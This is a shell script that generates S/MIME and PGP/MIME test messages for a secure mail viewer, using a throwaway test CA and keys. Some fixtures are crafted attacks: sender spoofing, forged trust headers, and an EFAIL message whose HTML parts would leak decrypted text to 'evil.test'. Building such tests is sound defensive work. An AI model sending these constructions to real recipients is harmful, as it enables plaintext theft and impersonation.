#!/bin/sh
# make-crypto-fixtures.sh OUTDIR
#
# Protected messages for test-secure-view, made at test time by tools the
# project does not write (issue 4): gpgsm and openssl cms/smime for S/MIME
# (RFC 8551), gpg for PGP/MIME (RFC 3156), with the test CA of
# tests/certstore/make-test-ca.sh.  Every message is written with CRLF line
# ends, as IMAP delivers it.
#
# OUTDIR gets:
#   ca/                 the test PKI (make-test-ca.sh init), plus erin@example.test
#                       issued by the untrusted "Other Test CA"
#   pgp-bob-secret.asc  bob's OpenPGP secret key (no passphrase; RSA, so that
#                       the RFC 2440 no-MDC message can be made for him)
#   pgp-alice-public.asc, pgp-alice.fpr, pgp-mallory-public.asc
#   *.eml               the messages; see the list at the end
#
# The sender's GnuPG homes live in OUTDIR/homes and their agents are stopped
# before the script exits.
set -eu

out=$1
here=$(cd "$(dirname "$0")" && pwd)
ca="$out/ca"
homes="$out/homes"
umask 077
mkdir -p "$out" "$homes"

cleanup() {
  for h in "$homes"/*; do
    [ -d "$h" ] && GNUPGHOME=$h gpgconf --kill all >/dev/null 2>&1 || true
  done
}
trap cleanup EXIT

# LF or CRLF in, CRLF out (the canonical form of RFC 5322 and of signed
# MIME entities, RFC 1847 section 2.1).
crlf() {
  sed -e 's/\r$//' -e 's/$/\r/'
}

[ -f "$ca/ca.pem" ] || sh "$here/../certstore/make-test-ca.sh" init "$ca"

# erin: a good certificate from a CA nobody trusts (signed-untrusted).
if [ ! -f "$ca/erin.pem" ]; then
  openssl req -newkey rsa:2048 -nodes -keyout "$ca/erin.key" -out "$ca/erin.csr" \
    -subj "/O=Elsewhere/CN=erin/emailAddress=erin@example.test" 2>/dev/null
  cat > "$ca/erin.ext" <<EXT
basicConstraints = critical, CA:FALSE
keyUsage = critical, digitalSignature, keyEncipherment
extendedKeyUsage = emailProtection
subjectAltName = email:erin@example.test
EXT
  openssl x509 -req -in "$ca/erin.csr" -CA "$ca/other-ca.pem" -CAkey "$ca/other-ca.key" \
    -CAcreateserial -days 365 -extfile "$ca/erin.ext" -out "$ca/erin.pem" 2>/dev/null
fi

# ---- the sender's gpgsm home (alice) ------------------------------------
sm="$homes/smime-alice"
mkdir -p "$sm"
chmod 700 "$sm"
printf 'disable-crl-checks\ndisable-dirmngr\n' > "$sm/gpgsm.conf"
printf 's2k-count 65536\n' > "$sm/gpg-agent.conf"
# gpgsm 2.2 rejects a few percent of valid 3DES bundles depending on the
# random salt (certstore/README.md): a new bundle is a new salt.
attempt=1
until echo p12pass | GNUPGHOME=$sm gpgsm --batch --pinentry-mode loopback --passphrase-fd 0 \
  --import "$ca/alice-legacy.p12" >/dev/null 2>&1; do
  [ $attempt -lt 5 ] || { echo "gpgsm refused alice's PKCS#12 five times" >&2; exit 1; }
  attempt=$((attempt + 1))
  openssl pkcs12 -export -in "$ca/alice.pem" -inkey "$ca/alice.key" -certfile "$ca/ca.pem" -name alice \
    -passout pass:p12pass -keypbe PBE-SHA1-3DES -certpbe PBE-SHA1-3DES -macalg sha1 -out "$ca/alice-legacy.p12"
done
GNUPGHOME=$sm gpgsm --batch --import "$ca/ca.pem" "$ca/bob.pem" >/dev/null 2>&1
echo "$(openssl x509 -in "$ca/ca.pem" -noout -fingerprint -sha1 | cut -d= -f2) S relax" > "$sm/trustlist.txt"

gpgsm_sign() {   # opaque signed-data (DER) of stdin, by alice
  # The passphrase goes through a file descriptor of its own: stdin is the data.
  GNUPGHOME=$sm gpgsm --batch --pinentry-mode loopback --passphrase-fd 3 \
    -u alice@example.test --include-certs -1 --sign 3<<P
p12pass
P
}

gpgsm_encrypt() {   # enveloped-data (DER) of stdin for bob
  GNUPGHOME=$sm gpgsm --batch -r bob@example.test --encrypt
}

b64() {
  openssl base64 -e
}

# pkcs7_mime SMIME-TYPE HEADERS-FILE < DER
pkcs7_mime() {
  cat "$2"
  printf 'MIME-Version: 1.0\nContent-Type: application/pkcs7-mime; smime-type=%s; name="smime.p7m"\n' "$1"
  printf 'Content-Transfer-Encoding: base64\nContent-Disposition: attachment; filename="smime.p7m"\n\n'
  b64
}

hdr() {   # hdr FROM SUBJECT [EXTRA-LINE...] > headers
  from=$1
  subject=$2
  shift 2
  printf 'From: %s\nTo: bob@example.test\nSubject: %s\nDate: Sat, 28 Nov 2026 10:00:00 +0000\nMessage-ID: <%s@example.test>\n' \
    "$from" "$subject" "$(echo "$subject" | tr -cd 'a-zA-Z0-9')"
  for line in "$@"; do
    printf '%s\n' "$line"
  done
}

inner="$out/inner.mime"
printf 'Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 7bit\n\nHello Bob, the secret word is SWORDFISH.\n' | crlf > "$inner"

# ---- S/MIME: opaque signed by gpgsm ----------------------------------------
hdr alice@example.test "opaque signed" > "$out/h"
gpgsm_sign < "$inner" > "$out/opaque.der"
pkcs7_mime signed-data "$out/h" < "$out/opaque.der" | crlf > "$out/smime-opaque-signed.eml"

# ---- S/MIME: detached multipart/signed by openssl smime ---------------------
# openssl smime -sign canonicalises the content to CRLF before signing.
ossl_detached() {   # ossl_detached SIGNER FROM SUBJECT [EXTRA...]
  signer=$1
  shift
  hdr "$@" | grep -v '^Subject:' > "$out/h2"
  {
    cat "$out/h2"
    openssl smime -sign -signer "$ca/$signer.pem" -inkey "$ca/$signer.key" -in "$inner" \
      -subject "$2" 2>/dev/null
  } | crlf
}
ossl_detached alice alice@example.test "detached signed" > "$out/smime-detached.eml"

# Altered: one word of the signed text changed after signing.
sed 's/SWORDFISH/SWORDFISK/' "$out/smime-detached.eml" > "$out/smime-detached-altered.eml"

# ---- S/MIME: enveloped (openssl cms, for bob) of a gpgsm-signed entity ------
{
  printf 'Content-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"\n'
  printf 'Content-Transfer-Encoding: base64\n\n'
  b64 < "$out/opaque.der"
} | crlf > "$out/signed-entity.mime"
hdr alice@example.test "enveloped signed" > "$out/h"
openssl cms -encrypt -aes256 -binary -outform DER -in "$out/signed-entity.mime" "$ca/bob.pem" \
  > "$out/env.der"
pkcs7_mime enveloped-data "$out/h" < "$out/env.der" | crlf > "$out/smime-enveloped-signed.eml"

# Enveloped by gpgsm, of an openssl detached multipart/signed entity
# (signed, then encrypted: RFC 8551 section 3.7).
openssl smime -sign -signer "$ca/alice.pem" -inkey "$ca/alice.key" -in "$inner" 2>/dev/null \
  | grep -v '^MIME-Version:' | crlf > "$out/detached-entity.mime"
hdr alice@example.test "gpgsm enveloped detached" > "$out/h"
gpgsm_encrypt < "$out/detached-entity.mime" > "$out/env2.der"
pkcs7_mime enveloped-data "$out/h" < "$out/env2.der" | crlf > "$out/smime-enveloped-detached.eml"

# Encrypted, not signed.
hdr alice@example.test "encrypted only" > "$out/h"
openssl cms -encrypt -aes256 -binary -outform DER -in "$inner" "$ca/bob.pem" > "$out/env3.der"
pkcs7_mime enveloped-data "$out/h" < "$out/env3.der" | crlf > "$out/smime-encrypted-only.eml"

# Encrypted for someone else (alice): bob cannot decrypt.
hdr carol@example.test "not for bob" > "$out/h"
openssl cms -encrypt -aes256 -binary -outform DER -in "$inner" "$ca/alice.pem" > "$out/env4.der"
pkcs7_mime enveloped-data "$out/h" < "$out/env4.der" | crlf > "$out/smime-not-for-me.eml"

# RFC 9788 header protection: the real Subject and From inside, "[...]" outside.
{
  printf 'Content-Type: text/plain; charset=utf-8; hp="cipher"\n'
  printf 'Subject: Quarterly numbers\nFrom: Alice <alice@example.test>\nTo: bob@example.test\n'
  printf 'HP-Outer: Subject: [...]\nContent-Transfer-Encoding: 7bit\n\nThe numbers are fine.\n'
} | crlf > "$out/hp-inner.mime"
gpgsm_sign < "$out/hp-inner.mime" > "$out/hp-signed.der"
{
  printf 'Content-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"\n'
  printf 'Content-Transfer-Encoding: base64\n\n'
  b64 < "$out/hp-signed.der"
} | crlf > "$out/hp-signed.mime"
hdr alice@example.test "[...]" > "$out/h"
gpgsm_encrypt < "$out/hp-signed.mime" > "$out/env5.der"
pkcs7_mime enveloped-data "$out/h" < "$out/env5.der" | crlf > "$out/smime-protected-headers.eml"

# ---- S/MIME: signer problems -------------------------------------------------
ossl_detached carol carol@example.test "expired signer" > "$out/smime-expired.eml"
ossl_detached dave dave@example.test "revoked signer" > "$out/smime-revoked.eml"
ossl_detached erin erin@example.test "unknown ca" > "$out/smime-unknown-ca.eml"
# "Johnny, you are fired": alice's good signature under someone else's From.
ossl_detached alice boss@example.test "signer mismatch" > "$out/smime-mismatch.eml"
ossl_detached alice '"alice@example.test" <mallory@evil.test>' "display name trick" \
  > "$out/smime-display-name.eml"
ossl_detached alice boss@example.test "sender confusion" "Sender: alice@example.test" \
  > "$out/smime-sender.eml"
ossl_detached alice alice@example.test "two from" "From: mallory@evil.test" > "$out/smime-two-from.eml"

# Two signers on one signed-data: alice and bob (mixed signers), and alice
# with the expired carol (one bad signature).
two_signers() {   # two_signers OTHER SUBJECT
  hdr alice@example.test "$2" > "$out/h"
  openssl cms -sign -nodetach -binary -outform DER -in "$inner" \
    -signer "$ca/alice.pem" -inkey "$ca/alice.key" \
    -signer "$ca/$1.pem" -inkey "$ca/$1.key" 2>/dev/null \
    | pkcs7_mime signed-data "$out/h" | crlf
}
two_signers bob "two signers" > "$out/smime-two-signers.eml"
two_signers carol "one bad signer" > "$out/smime-one-bad-signer.eml"

# Zero signers: a certificates-only signed-data (RFC 8551 section 3.6)
# presented as a signed message.
hdr alice@example.test "zero signers" > "$out/h"
openssl crl2pkcs7 -nocrl -certfile "$ca/alice.pem" -outform DER \
  | pkcs7_mime signed-data "$out/h" | crlf > "$out/smime-zero-signers.eml"

# ---- not protected at the root ---------------------------------------------
# A good signed message wrapped inside unsigned multipart/mixed with added
# text (surreptitious forwarding), carrying forged trust headers.
{
  hdr alice@example.test "[Verified] wrapped" "X-SecureMail-Trust: verified" \
    "X-SecureMail-Signer: alice@example.test"
  printf 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="wrap"\n\n--wrap\n'
  printf 'Content-Type: text/plain\n\nYou are fired.\n--wrap\n'
  sed -n '/^MIME-Version:/,$p' "$out/smime-detached.eml" | grep -v '^MIME-Version:'
  printf '\n--wrap--\n'
} | crlf > "$out/wrapped-signed.eml"

# EFAIL direct exfiltration: the encrypted part for bob between two HTML
# parts that would leak its plaintext in an <img> URL if merged.
{
  hdr alice@example.test "efail" "X-SecureMail-Encrypted: yes"
  printf 'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="efail"\n\n--efail\n'
  printf 'Content-Type: text/html\n\n<img src="http://evil.test/?\n--efail\n'
  printf 'Content-Type: application/pkcs7-mime; smime-type=enveloped-data\n'
  printf 'Content-Transfer-Encoding: base64\n\n'
  b64 < "$out/env3.der"
  printf '\n--efail\nContent-Type: text/html\n\n">\n--efail--\n'
} | crlf > "$out/efail.eml"

printf 'From: alice@example.test\nTo: bob@example.test\nSubject: plain\nMessage-ID: <plain@example.test>\n\nJust text.\n' \
  | crlf > "$out/plain.eml"

# ---- OpenPGP (gpg) ------------------------------------------------------------
pa="$homes/pgp-alice"
pb="$homes/pgp-bob"
pm="$homes/pgp-mallory"
for h in "$pa" "$pb" "$pm"; do
  mkdir -p "$h"
  chmod 700 "$h"
  printf 's2k-count 65536\n' > "$h/gpg-agent.conf"
done
GNUPGHOME=$pa gpg --batch -q --passphrase '' --quick-gen-key "Alice <alice@example.test>" future-default default never 2>/dev/null
GNUPGHOME=$pm gpg --batch -q --passphrase '' --quick-gen-key "Mallory <mallory@evil.test>" future-default default never 2>/dev/null
GNUPGHOME=$pb gpg --batch -q --passphrase '' --quick-gen-key "Bob <bob@example.test>" rsa2048 cert,sign never 2>/dev/null
bfpr=$(GNUPGHOME=$pb gpg --list-keys --with-colons bob@example.test | awk -F: '/^fpr/{print $10; exit}')
GNUPGHOME=$pb gpg --batch -q --passphrase '' --quick-add-key "$bfpr" rsa2048 encr never 2>/dev/null
GNUPGHOME=$pb gpg --batch -q --armor --export-secret-keys "$bfpr" > "$out/pgp-bob-secret.asc"
GNUPGHOME=$pb gpg --batch -q --armor --export "$bfpr" > "$out/pgp-bob-public.asc"
GNUPGHOME=$pa gpg --list-keys --with-colons alice@example.test | awk -F: '/^fpr/{print $10; exit}' > "$out/pgp-alice.fpr"
GNUPGHOME=$pa gpg --batch -q --armor --export alice@example.test > "$out/pgp-alice-public.asc"
GNUPGHOME=$pm gpg --batch -q --armor --export mallory@evil.test > "$out/pgp-mallory-public.asc"
for h in "$pa" "$pm"; do
  GNUPGHOME=$h gpg --batch -q --import "$out/pgp-bob-public.asc" 2>/dev/null
done

pgp_encrypted() {   # pgp_encrypted HOME SIGNER-OR-- SUBJECT FROM [GPG-OPTIONS...] < ENTITY
  home=$1
  signer=$2
  subject=$3
  from=$4
  shift 4
  if [ "$signer" = "--" ]; then set -- "$@"; else set -- --sign -u "$signer" "$@"; fi
  hdr "$from" "$subject" > "$out/h"
  GNUPGHOME=$home gpg --batch -q --yes --trust-model always --armor -r bob@example.test --encrypt "$@" \
    > "$out/pgp.asc" 2>/dev/null
  {
    cat "$out/h"
    printf 'MIME-Version: 1.0\nContent-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary="pgpenc"\n\n'
    printf 'This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\n--pgpenc\n'
    printf 'Content-Type: application/pgp-encrypted\nContent-Description: PGP/MIME version identification\n\nVersion: 1\n\n'
    printf -- '--pgpenc\nContent-Type: application/octet-stream; name="encrypted.asc"\n\n'
    cat "$out/pgp.asc"
    printf '\n--pgpenc--\n'
  } | crlf
}

# Signed and encrypted in one OpenPGP message (RFC 3156 section 6.2).
pgp_encrypted "$pa" alice@example.test "pgp signed encrypted" alice@example.test < "$inner" \
  > "$out/pgp-signed-encrypted.eml"
pgp_encrypted "$pa" -- "pgp encrypted only" alice@example.test < "$inner" > "$out/pgp-encrypted-only.eml"
pgp_encrypted "$pm" mallory@evil.test "pgp mismatch" alice@example.test < "$inner" > "$out/pgp-mismatch.eml"
# No integrity protection (RFC 2440 style, no MDC): must never be shown.
pgp_encrypted "$pa" -- "pgp no mdc" alice@example.test --rfc2440 --compress-algo none --cipher-algo AES \
  < "$inner" > "$out/pgp-no-mdc.eml"

# multipart/signed (RFC 3156 section 5): the detached signature covers the
# exact CRLF bytes of the first part.
pgp_signed_entity() {   # pgp_signed_entity HOME SIGNER < ENTITY > multipart/signed entity (no outer headers)
  cat > "$out/part"
  # The signed part ends before the CRLF that precedes the boundary.
  head -c -2 "$out/part" > "$out/part.canon"
  GNUPGHOME=$1 gpg --batch -q --yes --armor --detach-sign -u "$2" -o "$out/part.sig" "$out/part.canon" 2>/dev/null
  printf 'Content-Type: multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"; boundary="pgpsig"\r\n\r\n'
  printf -- '--pgpsig\r\n'
  cat "$out/part"
  printf -- '--pgpsig\r\nContent-Type: application/pgp-signature; name="signature.asc"\r\n\r\n'
  crlf < "$out/part.sig"
  printf -- '--pgpsig--\r\n'
}
hdr alice@example.test "pgp detached" | crlf > "$out/h"
{ cat "$out/h"; printf 'MIME-Version: 1.0\r\n'; pgp_signed_entity "$pa" alice@example.test < "$inner"; } \
  > "$out/pgp-signed.eml"
sed 's/SWORDFISH/SWORDFISK/' "$out/pgp-signed.eml" > "$out/pgp-signed-altered.eml"

# Signed, then encrypted as two layers (RFC 3156 section 6.1).
pgp_signed_entity "$pa" alice@example.test < "$inner" > "$out/pgp-signed-entity.mime"
pgp_encrypted "$pa" -- "pgp signed then encrypted" alice@example.test < "$out/pgp-signed-entity.mime" \
  > "$out/pgp-signed-then-encrypted.eml"

# Zero signers: the signature part holds a public key, not a signature.
{
  cat "$out/h"
  printf 'MIME-Version: 1.0\r\nContent-Type: multipart/signed; micalg=pgp-sha256; protocol="application/pgp-signature"; boundary="pgpsig"\r\n\r\n'
  printf -- '--pgpsig\r\n'
  cat "$inner"
  printf -- '--pgpsig\r\nContent-Type: application/pgp-signature\r\n\r\n'
  crlf < "$out/pgp-alice-public.asc"
  printf -- '--pgpsig--\r\n'
} > "$out/pgp-zero-signers.eml"

rm -f "$out/h" "$out/h2" "$out/part" "$out/part.canon" "$out/part.sig" "$out/pgp.asc"
echo "fixtures in $out"
